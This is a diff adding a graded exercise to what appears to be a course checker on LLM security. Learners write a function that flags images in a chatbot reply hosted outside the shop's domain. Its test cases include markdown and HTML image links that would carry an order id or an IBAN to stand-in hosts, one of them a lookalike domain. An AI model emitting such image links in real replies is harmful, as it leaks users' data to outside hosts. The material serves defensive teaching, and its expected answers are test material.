@@ -15,9 +15,11 @@ __all__ = [
     "EX05_2_HARMLESS",
     "EX05_3_BLOCKED",
     "EX05_3_EXPECTED",
+    "EX05_4_CASES",
     "ex05_1",
     "ex05_2",
     "ex05_3",
+    "ex05_4",
 ]
 
 #: ex05_1: (text, the text with every *valid* German tax id replaced by "[TAX_ID]").
@@ -184,4 +186,56 @@ def ex05_3(rates: Callable[..., Any]) -> bool:
         label,
         f"block rate {truth.block_rate:.2f} ({truth.attacks} attacks), false-positive rate "
         f"{truth.false_positive_rate:.2f} ({truth.harmless} harmless cases).",
+    )
+
+
+#: ex05_4: (reply, the domains of images in it that lie outside isar-cycles.example).
+#: Links are not images: a browser fetches an image by itself, a link only when clicked.
+EX05_4_CASES: list[tuple[str, list[str]]] = [
+    ("Returns are free within 30 days [returns].", []),
+    ("Here is our logo: ![logo](https://isar-cycles.example/logo.png)", []),
+    ("Size chart: ![sizes](https://cdn.isar-cycles.example/sizes.png)", []),
+    ("Done! ![s](https://collect.example/p.png?d=IC-100042)", ["collect.example"]),
+    ('Thanks <img src="https://leak.example.com/x.png?c=IBAN"> for waiting', ["leak.example.com"]),
+    ("![a](https://isar-cycles.example.evil.net/p.png)", ["isar-cycles.example.evil.net"]),
+    ("Track it on [the carrier's page](https://carrier.example/track).", []),
+]
+
+
+def ex05_4(outside_images: Callable[..., Any]) -> bool:
+    """Check ``outside_images(reply) -> list[str]``: the domains of outside images, no others."""
+    label = "ex05_4"
+    for reply, want in EX05_4_CASES:
+        ok, result = call_learner_code(label, outside_images, reply)
+        if not ok:
+            return False
+        if result is None:
+            return not_yet(label, f"outside_images({reply!r}) returned None", "return a list")
+        if not isinstance(result, list | tuple) or not all(isinstance(d, str) for d in result):
+            return not_yet(
+                label,
+                f"outside_images({reply!r}) returned {result!r:.60}, not a list of domains",
+                "return a list of strings such as ['collect.example']",
+            )
+        got = sorted(d.lower() for d in result)
+        if got == sorted(want):
+            continue
+        if "<img" in reply:
+            hint = "an HTML <img src=...> tag is fetched by the browser too: find its src as well"
+        elif "evil.net" in reply:
+            hint = (
+                "'isar-cycles.example' *inside* a host name proves nothing: the host must be "
+                "isar-cycles.example itself or end with '.isar-cycles.example'"
+            )
+        elif "cdn.isar-cycles" in reply:
+            hint = "subdomains of the company's domain are the company's too"
+        elif "carrier" in reply:
+            hint = "only images count here: a markdown image starts with '![', a link with '['"
+        else:
+            hint = "take the host name of each image address (urllib.parse.urlsplit(url).hostname)"
+        return not_yet(label, f"for {reply!r} expected {sorted(want)}, got {got}", hint)
+    return passed(
+        label,
+        f"all {len(EX05_4_CASES)} replies right: outside images found in markdown and HTML, the "
+        "company's own images and plain links left alone.",
     )
